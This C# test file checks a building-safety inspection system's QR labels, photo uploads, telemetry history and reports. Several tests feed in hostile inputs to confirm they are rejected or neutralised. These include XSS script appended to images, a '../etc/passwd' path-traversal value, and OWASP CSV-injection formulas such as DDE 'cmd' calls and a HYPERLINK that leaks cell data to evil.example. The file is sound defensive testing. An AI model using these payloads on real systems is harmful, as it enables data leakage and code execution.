using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using Microsoft.Extensions.DependencyInjection;
using MiniExcelLibs;
using SkiaSharp;
using SafetyPatrol.Grains.History;
using SafetyPatrol.Silo.Tests.Infrastructure;

namespace SafetyPatrol.Silo.Tests;

[Collection(SystemCollection.Name)]
public sealed class PaperworkApiTests(SystemFixture system)
{
    /// <summary>A real 8×6 PNG, and the start of one that is not.</summary>
    private static readonly byte[] Png = Picture(8, 6, SKEncodedImageFormat.Png);
    private static readonly byte[] PngSignature = [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A];

    [Fact]
    public async Task TheQrCodeAndThePrintedSheetCarryTheCheckInUrlUnderThePublicAddress()
    {
        using var admin = await system.SignIn("admin", SystemFixture.AdminPassword);
        using var op = await system.Operator();

        var svg = await admin.GetAsync("/api/checkpoints/cp-101/qr.svg");
        Assert.Equal("image/svg+xml", svg.Content.Headers.ContentType?.MediaType);
        Assert.StartsWith("<svg", (await svg.Content.ReadAsStringAsync()).TrimStart());
        Assert.Equal(HttpStatusCode.NotFound, (await admin.GetAsync("/api/checkpoints/cp-none/qr.svg")).StatusCode);
        Assert.Equal(HttpStatusCode.Forbidden, (await op.GetAsync("/api/checkpoints/cp-101/qr.svg")).StatusCode);

        var sheet = await admin.GetStringAsync("/print/checkpoints?buildingId=teach-1");
        Assert.Equal(5, sheet.Split("class=\"label\"").Length - 1);
        Assert.Contains($"{system.BaseUrl}/checkin?cp=cp-101&amp;code=T1-101-7F3A", sheet);
        Assert.Contains("第一教学楼 · 一年级一班", sheet);
        Assert.DoesNotContain("cp-lonely", sheet);
        Assert.Equal(HttpStatusCode.NotFound, (await admin.GetAsync("/print/checkpoints?buildingId=nowhere")).StatusCode);

        // A checkpoint whose code rotates on a display: its label carries no code, and its URL names only the checkpoint.
        var annex = await admin.GetStringAsync("/print/checkpoints?buildingId=annex");
        Assert.Contains($"{system.BaseUrl}/checkin?cp=cp-display</p>", annex);
        Assert.Contains("cp-display · 码见显示屏 code on the display", annex);

        // The URL on the label opens the officer page filled in.
        using var noRedirect = new HttpClient(new HttpClientHandler { AllowAutoRedirect = false }) { BaseAddress = new Uri(system.BaseUrl) };
        var open = await noRedirect.GetAsync("/checkin?cp=cp-101&code=T1-101-7F3A");
        Assert.Equal("/officer.html?cp=cp-101&code=T1-101-7F3A", open.Headers.Location?.ToString());
    }

    [Fact]
    public async Task APhotoIsTypeCheckedAndSizeLimitedAndTravelsWithTheFindingItShows()
    {
        using var officer = await system.SignIn("officer1", SystemFixture.OfficerPassword);
        using var op = await system.Operator();
        await using var console = await ConsoleClient.Connect(system, await system.Token("operator1", SystemFixture.OperatorPassword));

        Assert.Equal(HttpStatusCode.UnsupportedMediaType, (await officer.PostAsync("/api/photos", Image("GIF89a..."u8.ToArray(), "image/gif"))).StatusCode);
        Assert.Equal(HttpStatusCode.UnsupportedMediaType, (await officer.PostAsync("/api/photos", Image("<script>"u8.ToArray(), "image/png"))).StatusCode);
        Assert.Equal(HttpStatusCode.UnsupportedMediaType,
            (await officer.PostAsync("/api/photos", Image([.. PngSignature, .. "<html><script>alert(document.cookie)</script></html>"u8], "image/png"))).StatusCode);
        Assert.Equal(HttpStatusCode.RequestEntityTooLarge, (await officer.PostAsync("/api/photos", Image([.. Png, .. new byte[5 * 1024 * 1024]], "image/png"))).StatusCode);
        var uploaded = await officer.PostAsync("/api/photos", Image(Png, "image/jpeg"));
        Assert.Equal(HttpStatusCode.Created, uploaded.StatusCode);
        var photo = await uploaded.Content.ReadFromJsonAsync<JsonElement>();
        Assert.Equal("image/png", photo.GetProperty("contentType").GetString());
        var photoId = photo.GetProperty("id").GetString();

        Assert.Equal(HttpStatusCode.BadRequest, (await officer.PostAsJsonAsync("/api/checkins", new
        {
            checkpointId = "cp-photo", code = "PHOTO-1", findings = new[] { new { item = "Seal intact", ok = false, photoId = "../etc/passwd" } },
        })).StatusCode);
        await officer.PostAsJsonAsync("/api/checkins", new
        {
            checkpointId = "cp-photo", code = "PHOTO-1", findings = new[] { new { item = "Seal intact", ok = false, note = "seal broken", photoId } },
        });
        var finding = await console.Next("alertRaised", a => a.GetProperty("checkpointId").GetString() == "cp-photo" && a.GetProperty("item").GetString() == "Seal intact");
        Assert.Equal(photoId, finding.GetProperty("photoId").GetString());

        var served = await op.GetAsync($"/api/photos/{photoId}");
        Assert.Equal("image/png", served.Content.Headers.ContentType?.MediaType);
        using (var shown = SKBitmap.Decode(await served.Content.ReadAsByteArrayAsync()))
        {
            Assert.Equal((8, 6), (shown.Width, shown.Height));
        }

        Assert.Equal(HttpStatusCode.NotFound, (await op.GetAsync($"/api/photos/{Guid.NewGuid()}")).StatusCode);
    }

    [Fact]
    public async Task APhotoIsKeptAsOnlyTheImageWithoutMetadataOrWhatFollowedItAndTurnedUpright()
    {
        using var officer = await system.SignIn("officer1", SystemFixture.OfficerPassword);
        async Task<byte[]> Stored(byte[] sent, string type)
        {
            var uploaded = await officer.PostAsync("/api/photos", Image(sent, type));
            Assert.Equal(HttpStatusCode.Created, uploaded.StatusCode);
            var id = (await uploaded.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("id").GetString();
            return await officer.GetByteArrayAsync($"/api/photos/{id}");
        }

        // A real picture with a page after it: the page is gone.
        var png = await Stored([.. Png, .. "<html><script>alert(document.cookie)</script></html>"u8], "image/png");
        Assert.DoesNotContain("<script", Encoding.Latin1.GetString(png));
        Assert.Equal(PngSignature, png[..8]);

        // A phone's JPEG held sideways, with its EXIF: stored upright (6×8), the EXIF gone.
        var jpeg = await Stored(WithExifOrientation(Picture(8, 6, SKEncodedImageFormat.Jpeg), orientation: 6), "image/jpeg");
        Assert.DoesNotContain("Exif", Encoding.Latin1.GetString(jpeg));
        using var upright = SKBitmap.Decode(jpeg);
        Assert.Equal((6, 8), (upright.Width, upright.Height));

        // A picture that claims more pixels than a phone takes is refused before it is decoded.
        Assert.Equal(HttpStatusCode.RequestEntityTooLarge, (await officer.PostAsync("/api/photos", Image(PngClaiming(20_000, 20_000), "image/png"))).StatusCode);
    }

    private static byte[] Picture(int width, int height, SKEncodedImageFormat format)
    {
        using var bitmap = new SKBitmap(width, height);
        bitmap.Erase(new SKColor(200, 30, 30));
        using var data = bitmap.Encode(format, 90);
        return data.ToArray();
    }

    /// <summary>The JPEG with an EXIF segment after its start, holding one tag: orientation.</summary>
    private static byte[] WithExifOrientation(byte[] jpeg, byte orientation)
    {
        // TIFF, little-endian: header, then one IFD of one entry (0x0112 Orientation, SHORT, 1 value) and no next IFD.
        byte[] tiff = [(byte)'I', (byte)'I', 42, 0, 8, 0, 0, 0, 1, 0, 0x12, 0x01, 3, 0, 1, 0, 0, 0, orientation, 0, 0, 0, 0, 0, 0, 0];
        byte[] payload = [.. "Exif\0\0"u8, .. tiff];
        var length = payload.Length + 2;
        return [.. jpeg[..2], 0xFF, 0xE1, (byte)(length >> 8), (byte)length, .. payload, .. jpeg[2..]];
    }

    /// <summary>A PNG whose header claims a size (and whose data is too short for it).</summary>
    private static byte[] PngClaiming(int width, int height)
    {
        var png = Picture(8, 6, SKEncodedImageFormat.Png);
        System.Buffers.Binary.BinaryPrimitives.WriteInt32BigEndian(png.AsSpan(16), width);
        System.Buffers.Binary.BinaryPrimitives.WriteInt32BigEndian(png.AsSpan(20), height);
        System.Buffers.Binary.BinaryPrimitives.WriteUInt32BigEndian(png.AsSpan(29), Crc32(png.AsSpan(12, 17)));
        return png;
    }

    /// <summary>PNG's chunk checksum (CRC-32, reflected, polynomial 0xEDB88320).</summary>
    private static uint Crc32(ReadOnlySpan<byte> bytes)
    {
        var crc = 0xFFFFFFFFu;
        foreach (var b in bytes)
        {
            crc ^= b;
            for (var bit = 0; bit < 8; bit++)
            {
                crc = (crc & 1) != 0 ? (crc >> 1) ^ 0xEDB88320u : crc >> 1;
            }
        }

        return ~crc;
    }

    [Fact]
    public async Task ReadingsAreKeptAsOneMinuteAggregatesAndReadInStepsOfAnyLength()
    {
        using var op = await system.Operator();
        var minute = new DateTimeOffset(2026, 11, 20, 2, 0, 0, TimeSpan.Zero);
        using (var device = await MqttDevices.Connect(system, "history-1", "h"))
        {
            foreach (var (at, volts) in new[] { (10, 220.0), (40, 230.0), (65, 210.0), (70, 212.5), (125, 208.0) })
            {
                await device.Publish("devices/history-1/telemetry", $$"""{"ts": {{(minute + TimeSpan.FromSeconds(at)).ToUnixTimeMilliseconds()}}, "voltage": {{volts}}, "mains": true, "breaker": "on"}""");
            }
        }

        await system.Services.GetRequiredService<HistoryRecorder>().Flush();
        var range = $"from={Uri.EscapeDataString(minute.ToString("O"))}&to={Uri.EscapeDataString((minute + TimeSpan.FromMinutes(5)).ToString("O"))}";
        var points = (await op.GetFromJsonAsync<JsonElement[]>($"/api/devices/history-1/history?metric=voltage&{range}"))!;
        Assert.Equal(
            [(minute, 220.0, 225.0, 230.0, 230.0, 2), (minute.AddMinutes(1), 210.0, 211.25, 212.5, 212.5, 2), (minute.AddMinutes(2), 208.0, 208.0, 208.0, 208.0, 1)],
            points.Select(p => (p.GetProperty("at").GetDateTimeOffset(), p.GetProperty("min").GetDouble(), p.GetProperty("avg").GetDouble(),
                p.GetProperty("max").GetDouble(), p.GetProperty("last").GetDouble(), p.GetProperty("count").GetInt32())).ToArray());

        var fiveMinutes = Assert.Single((await op.GetFromJsonAsync<JsonElement[]>($"/api/devices/history-1/history?metric=voltage&step=5&{range}"))!);
        Assert.Equal((208.0, 230.0, 5), (fiveMinutes.GetProperty("min").GetDouble(), fiveMinutes.GetProperty("max").GetDouble(), fiveMinutes.GetProperty("count").GetInt32()));
        var mains = (await op.GetFromJsonAsync<JsonElement[]>($"/api/devices/history-1/history?metric=mains&{range}"))!;
        Assert.All(mains, p => Assert.Equal(1.0, p.GetProperty("avg").GetDouble()));
        Assert.Empty((await op.GetFromJsonAsync<JsonElement[]>($"/api/devices/history-1/history?metric=breaker&{range}"))!);

        Assert.Equal(HttpStatusCode.BadRequest, (await op.GetAsync("/api/devices/history-1/history")).StatusCode);
        Assert.Equal(HttpStatusCode.BadRequest, (await op.GetAsync("/api/devices/history-1/history?metric=voltage&from=2026-01-01T00:00Z&to=2026-12-01T00:00Z")).StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await op.GetAsync("/api/devices/nope/history?metric=voltage")).StatusCode);

    }

    [Fact]
    public async Task HistoryOlderThanTheRetentionIsForgotten()
    {
        using var op = await system.Operator();
        var old = system.Time.GetUtcNow() - TimeSpan.FromDays(91);
        var recent = system.Time.GetUtcNow() - TimeSpan.FromDays(89);
        using (var device = await MqttDevices.Connect(system, "history-1", "h"))
        {
            await device.Publish("devices/history-1/telemetry", $$"""{"ts": {{old.ToUnixTimeMilliseconds()}}, "current": 3}""");
            await device.Publish("devices/history-1/telemetry", $$"""{"ts": {{recent.ToUnixTimeMilliseconds()}}, "current": 4}""");
        }

        var recorder = system.Services.GetRequiredService<HistoryRecorder>();
        await recorder.Flush();
        var range = $"from={Uri.EscapeDataString(old.AddHours(-1).ToString("O"))}&to={Uri.EscapeDataString(recent.AddHours(1).ToString("O"))}&step=1440";
        Assert.Equal(2, (await op.GetFromJsonAsync<JsonElement[]>($"/api/devices/history-1/history?metric=current&{range}"))!.Length);

        Assert.True(await recorder.Prune() >= 1);
        var kept = Assert.Single((await op.GetFromJsonAsync<JsonElement[]>($"/api/devices/history-1/history?metric=current&{range}"))!);
        Assert.Equal(4.0, kept.GetProperty("last").GetDouble());
    }

    [Fact]
    public async Task AGaugeReadingFarFromTheSensorRaisesAMismatchNamingBothValues()
    {
        using var officer = await system.SignIn("officer1", SystemFixture.OfficerPassword);
        await using var console = await ConsoleClient.Connect(system, await system.Token("operator1", SystemFixture.OperatorPassword));
        using (var sensor = await MqttDevices.Connect(system, "o2-gauge", "o2"))
        {
            await sensor.Publish("devices/o2-gauge/telemetry", """{"o2Pressure": 400}""");
        }

        var info = await officer.GetFromJsonAsync<JsonElement>("/api/checkpoints/cp-o2");
        var gauge = Assert.Single(info.GetProperty("gauges").EnumerateArray());
        Assert.Equal(("Gauge (kPa)", "o2Pressure"), (gauge.GetProperty("item").GetString(), gauge.GetProperty("metric").GetString()));

        var checkIn = await officer.PostAsJsonAsync("/api/checkins", new { checkpointId = "cp-o2", code = "O2-5150", findings = new object[] { new { item = "Gauge (kPa)", ok = true, value = 455.5 } } });
        Assert.Equal(HttpStatusCode.Created, checkIn.StatusCode);
        var mismatch = await console.Next("alertRaised", a => a.GetProperty("type").GetString() == "inspection.mismatch" && a.GetProperty("checkpointId").GetString() == "cp-o2");
        Assert.Equal(("finding", "major", "o2-gauge", 455.5, 400.0), (mismatch.GetProperty("category").GetString(), mismatch.GetProperty("severity").GetString(),
            mismatch.GetProperty("deviceId").GetString(), mismatch.GetProperty("value").GetDouble(), mismatch.GetProperty("threshold").GetDouble()));
        Assert.Equal("455.5", mismatch.GetProperty("messageArgs").GetProperty("gauge").GetString());
    }

    /// <summary>OWASP's CSV injection list, and the full-width forms a Chinese input method types.</summary>
    public static readonly string[] Formulas =
    [
        "=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Report\")", "＝1+1", "＠SUM(1,1)",
    ];

    [Fact]
    public async Task TextThatASpreadsheetWouldRunIsShownAsTextInTheCsvAndTheExcelReportAndInTheAuditCsv()
    {
        using var op = await system.Operator();
        foreach (var formula in Formulas)
        {
            (await op.PostAsJsonAsync("/api/tickets", new { title = formula, roomId = "lab-1" })).EnsureSuccessStatusCode();
        }

        var today = TimeZoneInfo.ConvertTime(system.Time.GetUtcNow(), TimeZoneInfo.FindSystemTimeZoneById("Asia/Shanghai")).ToString("yyyy-MM-dd");
        var csv = await op.GetStringAsync($"/api/reports/daily?date={today}&format=csv");
        foreach (var formula in Formulas)
        {
            var cell = formula.Contains('"') || formula.Contains(',') ? "\"'" + formula.Replace("\"", "\"\"") + "\"" : "'" + formula;
            Assert.Contains("," + cell + ",", csv);
        }

        using var book = new MemoryStream(await op.GetByteArrayAsync($"/api/reports/daily?date={today}&format=xlsx"));
        var titles = book.Query(useHeaderRow: true, sheetName: "报修 Tickets").Cast<IDictionary<string, object>>().Select(r => (string)r["标题 Title"]).ToList();
        Assert.All(Formulas, formula => Assert.Contains("'" + formula, titles));

        // A tab or a return before the formula is skipped by Excel and WPS: a sign-in with such a name is an audit line.
        foreach (var name in new[] { "\t=1+1", "\r@SUM(1+1)" })
        {
            await system.Anonymous.PostAsJsonAsync("/api/auth/token", new { username = name, password = "whatever-1" });
        }

        using var admin = await system.SignIn("admin", SystemFixture.AdminPassword);
        var audit = await admin.GetStringAsync("/api/audit?action=sign-in&format=csv&limit=5000");
        Assert.Contains(",'\t=1+1,", audit);
        Assert.Contains(",\"'\r@sum(1+1)\",", audit);
        Assert.DoesNotContain(",\t=1+1,", audit);
    }

    [Fact]
    public async Task TheDailyAndMonthlyReportsCountInspectionsFindingsAlertsAndTicketsAsJsonCsvAndXlsx()
    {
        using var officer = await system.SignIn("officer1", SystemFixture.OfficerPassword);
        using var op = await system.Operator();
        await officer.PostAsJsonAsync("/api/checkins", new { checkpointId = "cp-lonely", code = "PL-SW-9" });
        await op.PostAsJsonAsync("/api/tickets", new { title = "报表 Report ticket", roomId = "lab-1" });
        var zone = TimeZoneInfo.FindSystemTimeZoneById("Asia/Shanghai");
        var today = TimeZoneInfo.ConvertTime(system.Time.GetUtcNow(), zone);

        var daily = await op.GetFromJsonAsync<JsonElement>($"/api/reports/daily?date={today:yyyy-MM-dd}");
        Assert.Equal(("daily", today.ToString("yyyy-MM-dd")), (daily.GetProperty("kind").GetString(), daily.GetProperty("period").GetString()));
        Assert.Equal(today.Date, TimeZoneInfo.ConvertTime(daily.GetProperty("from").GetDateTimeOffset(), zone).DateTime);
        var lonely = Assert.Single(daily.GetProperty("inspections").EnumerateArray(), i => i.GetProperty("checkpointId").GetString() == "cp-lonely");
        Assert.True(lonely.GetProperty("done").GetInt32() >= 1);
        Assert.Equal("officer1", lonely.GetProperty("lastOfficer").GetString());
        Assert.Contains(daily.GetProperty("tickets").GetProperty("items").EnumerateArray(), t => t.GetProperty("title").GetString() == "报表 Report ticket");
        Assert.Equal(11, daily.GetProperty("inspections").GetArrayLength());

        var monthly = await op.GetFromJsonAsync<JsonElement>($"/api/reports/monthly?month={today:yyyy-MM}");
        Assert.True(monthly.GetProperty("inspections").EnumerateArray().Sum(i => i.GetProperty("done").GetInt32())
            >= daily.GetProperty("inspections").EnumerateArray().Sum(i => i.GetProperty("done").GetInt32()));

        var csv = await op.GetAsync($"/api/reports/daily?date={today:yyyy-MM-dd}&format=csv");
        var bytes = await csv.Content.ReadAsByteArrayAsync();
        Assert.Equal([0xEF, 0xBB, 0xBF], bytes[..3]);
        var text = Encoding.UTF8.GetString(bytes);
        Assert.Contains("巡检 Inspections\r\n巡检点 Checkpoint,名称 Name", text);
        Assert.Contains("cp-lonely,配电柜 Switchgear,设备楼,配电室,", text);

        var xlsx = await op.GetAsync($"/api/reports/monthly?month={today:yyyy-MM}&format=xlsx");
        Assert.Equal("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", xlsx.Content.Headers.ContentType?.MediaType);
        using var book = new MemoryStream(await xlsx.Content.ReadAsByteArrayAsync());
        Assert.Equal(["概况 Summary", "巡检 Inspections", "发现 Findings", "告警 Alerts", "报修 Tickets", "访客 Visitors"], book.GetSheetNames());
        var rows = book.Query(useHeaderRow: true, sheetName: "巡检 Inspections").Cast<IDictionary<string, object>>().ToList();
        Assert.Contains(rows, r => (string)r["巡检点 Checkpoint"] == "cp-lonely");

        Assert.Equal(HttpStatusCode.BadRequest, (await op.GetAsync("/api/reports/daily?date=yesterday")).StatusCode);
        Assert.Equal(HttpStatusCode.BadRequest, (await op.GetAsync("/api/reports/monthly?month=2026-13")).StatusCode);
        Assert.Equal(HttpStatusCode.BadRequest, (await op.GetAsync($"/api/reports/daily?date={today:yyyy-MM-dd}&format=pdf")).StatusCode);
        Assert.Equal(HttpStatusCode.Forbidden, (await officer.GetAsync($"/api/reports/daily?date={today:yyyy-MM-dd}")).StatusCode);

        var handover = await op.GetFromJsonAsync<JsonElement>("/api/reports/handover");
        Assert.Contains(handover.GetProperty("openTickets").EnumerateArray(), t => t.GetProperty("title").GetString() == "报表 Report ticket");
        Assert.True(handover.GetProperty("checkInsSince").GetInt32() >= 1);
    }

    private static ByteArrayContent Image(byte[] data, string type)
    {
        var content = new ByteArrayContent(data);
        content.Headers.ContentType = new MediaTypeHeaderValue(type);
        return content;
    }
}
